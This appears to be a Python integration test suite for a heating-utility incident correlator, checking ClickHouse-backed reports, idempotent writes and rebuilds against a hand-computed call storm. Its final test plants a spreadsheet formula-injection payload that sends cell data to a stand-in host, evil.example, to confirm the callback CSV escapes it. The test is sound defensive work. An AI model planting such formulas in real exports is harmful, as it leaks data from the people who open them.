"""Projections on both ClickHouse backends: reports with known answers, idempotency, rebuild."""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from correlators.correlator import Correlator
from correlators.replay import replay
from correlators.routing import Inbound
from correlators.rules import CorrelationRules
from events.codec import encode
from events.inbound import CallReported, ScadaSignal
from projections.reports import ReportError, callbacks, daily, handover
from projections.rows import Projector
from projections.sink import Message, Sink
from projections.store import Store
from streams.rebuild import rebuild_from_files
from topology.load import load_topology
from topology.samples import HEAT_CSV

pytestmark = pytest.mark.integration

T0 = datetime(2026, 1, 15, 8, 0, tzinfo=UTC)
DAY = date(2026, 1, 15)
NOW = T0 + timedelta(hours=4)
TOPOLOGY = load_topology(HEAT_CSV)
RULES = CorrelationRules.load()
A, B, C, D = "+1 212 555 0101", "+1 212 555 0102", "+1 212 555 0103", "+1 212 555 0104"


def at(minutes: int) -> datetime:
    return T0 + timedelta(minutes=minutes)


def call(
    event_id: str, minutes: int, premise: str, caller: str | None = None, tags: tuple[str, ...] = ()
) -> CallReported:
    return CallReported(
        event_id=event_id,
        occurred_at=at(minutes),
        utility="heat",
        premise_id=premise,
        caller=caller,
        symptom="no_heat",
        tags=tags,
    )


def signal(event_id: str, minutes: int, name: str) -> ScadaSignal:
    return ScadaSignal(event_id=event_id, occurred_at=at(minutes), device_id="HSUB-1", signal=name)


# A storm whose answers are known by hand:
# - building B-HSUB1-2: flats 01, 02, 03 call at 08:00, 08:05, 08:10 -> incident at 08:10
#   (10 minutes to detect); flat 01's caller calls again at 08:30 and flat 04 (no number) at
#   08:40: both absorbed by the known incident; HSUB-1 supply temperature low at 08:20
#   confirms it (rolled up to the substation), normal at 10:10 restores it (120 minutes);
# - an individual call with a tag at 08:15 elsewhere;
# - building B-HSUB3-1: three flats at 09:00, 09:05, 09:10 -> a second incident, never
#   restored, so past its 4-hour deadline by the end of the day.
STORM: list[Inbound] = [
    call("c1", 0, "P-HSUB1-B2-01", A),
    call("c2", 5, "P-HSUB1-B2-02", B),
    call("c3", 10, "P-HSUB1-B2-03", C),
    call("c6", 15, "P-HSUB2-B1-01", D, tags=("arrears",)),
    signal("s1", 20, "supply_temp_low"),
    call("c4", 30, "P-HSUB1-B2-01", A),
    call("c5", 40, "P-HSUB1-B2-04"),
    call("c7", 60, "P-HSUB3-B1-01"),
    call("c8", 65, "P-HSUB3-B1-02"),
    call("c9", 70, "P-HSUB3-B1-03"),
    signal("s2", 130, "normal"),
]


def messages() -> list[Message]:
    """The storm as the sink sees it: the inbound topics and the incident stream."""
    derived = replay(Correlator(TOPOLOGY, RULES), STORM).derived
    inbound = [
        Message("calls" if e.type == "call_reported" else "scada", 0, n, 0, encode(e))
        for n, e in enumerate(STORM)
    ]
    return inbound + [Message("incidents", 0, n, 0, encode(e)) for n, e in enumerate(derived)]


def sink_for(store: Store) -> Sink:
    return Sink(open_store=lambda: store, projector=Projector(TOPOLOGY, b"test-key"))


def reports(sink: Sink) -> dict[str, Any]:
    first = _restored_incident(sink)
    return {
        "daily": sink.run_now(lambda s: daily(s, DAY, RULES.handling_deadlines())).to_json(),
        "handover": sink.run_now(lambda s: handover(s, NOW)).to_json(),
        "callbacks": sink.run_now(lambda s: callbacks(s, first)).to_json(),
    }


def _restored_incident(sink: Sink) -> str:
    rows = sink.run_now(
        lambda s: s.query("SELECT incident_id FROM incidents FINAL WHERE state = 'restored'")
    )
    assert len(rows) == 1, rows
    return str(rows[0]["incident_id"])


def test_daily_report_has_the_known_answers(store: Store) -> None:
    """Calls, absorbed share, repeat callers, detect/restore minutes, deadline breaches."""
    sink = sink_for(store)
    sink.write_now(messages())
    report = sink.run_now(lambda s: daily(s, DAY, RULES.handling_deadlines()))
    summary = report.summary
    assert summary["calls"] == 9
    assert summary["calls_absorbed_by_known_incidents"] == 2  # c4 and c5
    assert summary["share_absorbed"] == round(2 / 9, 4)
    assert (summary["repeat_callers"], summary["repeat_calls"]) == (1, 1)  # caller A twice
    assert (summary["incidents_opened"], summary["incidents_confirmed"]) == (2, 1)
    assert summary["incidents_restored"] == 1
    assert summary["minutes_to_detect"]["mean"] == 10.0
    assert summary["minutes_to_restore"]["max"] == 120.0
    assert summary["incidents_past_deadline"] == 1
    hours: dict[int, int] = {}
    for row in report.sections[0].rows:  # one row per utility, area and hour
        hours[row["hour"].hour] = hours.get(row["hour"].hour, 0) + row["calls"]
    assert hours == {8: 6, 9: 3}  # s2 at 10:10 is a signal, not a call
    areas = {row["area"] for row in report.sections[0].rows}
    assert areas == {"HSUB-1", "HSUB-2", "HSUB-3"}
    assert report.chart is not None and report.chart["calls_per_hour"][8] == 6


def test_callbacks_list_every_caller_of_the_restored_incident_once(store: Store) -> None:
    """Caller A called twice and is listed once; the call without a number is counted apart."""
    sink = sink_for(store)
    sink.write_now(messages())
    incident = _restored_incident(sink)
    report = sink.run_now(lambda s: callbacks(s, incident))
    rows = report.sections[0].rows
    assert [(r["caller"], r["calls"]) for r in rows] == [(A, 2), (B, 1), (C, 1)]
    assert report.summary["calls"] == 5
    assert report.summary["calls_without_a_number"] == 1
    assert D not in report.to_csv()  # the tagged individual call is not this incident's


def test_callbacks_refuse_an_incident_that_is_not_restored(store: Store) -> None:
    """An open incident has no callback list yet; an unknown one is named as unknown."""
    sink = sink_for(store)
    sink.write_now(messages())
    open_id = sink.run_now(
        lambda s: s.query("SELECT incident_id FROM incidents FINAL WHERE state = 'suspected'")
    )[0]["incident_id"]
    with pytest.raises(ReportError, match="not restored yet"):
        sink.run_now(lambda s: callbacks(s, open_id))
    with pytest.raises(ReportError, match="no incident"):
        sink.run_now(lambda s: callbacks(s, "INC-nope"))


def test_handover_lists_open_incidents_alerts_and_pending_callbacks(store: Store) -> None:
    """The open incident, this shift's alerts and the restored incident's callers."""
    sink = sink_for(store)
    sink.write_now(messages())
    report = sink.run_now(lambda s: handover(s, NOW))
    open_rows, alerts, pending = (s.rows for s in report.sections)
    assert [(r["device_id"], r["state"], r["calls"]) for r in open_rows] == [
        ("B-HSUB3-1", "suspected", 3)
    ]
    # Only what the incoming lead must pick up: the open incident nobody acknowledged, which
    # was also reminded twice (15 and 30 minutes after opening, by the default heat rules).
    assert {a["incident_id"] for a in alerts} == {open_rows[0]["incident_id"]}
    assert sorted(a["kind"] for a in alerts) == [
        "incident_opened",
        "incident_unacknowledged",
        "incident_unacknowledged",
    ]
    assert [(p["device_id"], p["callers"]) for p in pending] == [("HSUB-1", 3)]


def test_a_repeated_batch_and_a_rebuild_give_identical_results(
    store: Store, tmp_path: Path
) -> None:
    """Same batch twice, then a rebuild from exported files: every report is unchanged."""
    sink = sink_for(store)
    batch = messages()
    sink.write_now(batch)
    once = reports(sink)
    counts = sink.run_now(lambda s: s.query("SELECT count() AS n FROM incident_events FINAL"))
    sink.write_now(batch)
    assert reports(sink) == once
    assert (
        sink.run_now(lambda s: s.query("SELECT count() AS n FROM incident_events FINAL")) == counts
    )

    inbound = tmp_path / "inbound.jsonl"
    derived = tmp_path / "derived.jsonl"
    inbound.write_bytes(b"".join(m.value + b"\n" for m in batch if m.topic != "incidents"))
    derived.write_bytes(b"".join(m.value + b"\n" for m in batch if m.topic == "incidents"))
    rebuilt = sink_for(store)
    rebuild_from_files(rebuilt, [inbound], [derived])
    assert reports(rebuilt) == once


def test_an_open_incident_is_past_its_deadline_only_once_the_deadline_has_passed(
    store: Store,
) -> None:
    """Asked at 13:00, the incident opened at 09:10 is 3 h 50 in: not yet past its 4 hours."""
    sink = sink_for(store)
    sink.write_now(messages())
    early = sink.run_now(lambda s: daily(s, DAY, RULES.handling_deadlines(), at(5 * 60)))
    late = sink.run_now(lambda s: daily(s, DAY, RULES.handling_deadlines(), at(6 * 60)))
    assert early.summary["incidents_past_deadline"] == 0
    assert late.summary["incidents_past_deadline"] == 1


def test_a_callers_formula_reaches_the_callback_csv_as_text(store: Store) -> None:
    """A caller stored as =HYPERLINK(...) is a text cell in the callback CSV, never a formula."""
    attack = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    sink = sink_for(store)
    sink.write_now(messages())
    incident = _restored_incident(sink)
    # Written as an older worker did (no phone check at ingest then): the row itself.
    contact = sink.run_now(
        lambda s: s.query(
            "SELECT call_id, occurred_at, caller, caller_hash FROM call_contacts FINAL "
            "WHERE call_id = 'c2'"
        )
    )[0]
    sink.run_now(lambda s: s.insert("call_contacts", [{**contact, "caller": attack}]))
    report = sink.run_now(lambda s: callbacks(s, incident))
    callers = [row[0] for row in csv.reader(io.StringIO(report.to_csv())) if row][2:]
    assert callers == [f"'{A}", "'" + attack, f"'{C}"]
    assert report.sections[0].rows[1]["caller"] == attack  # JSON and tables keep it as stored
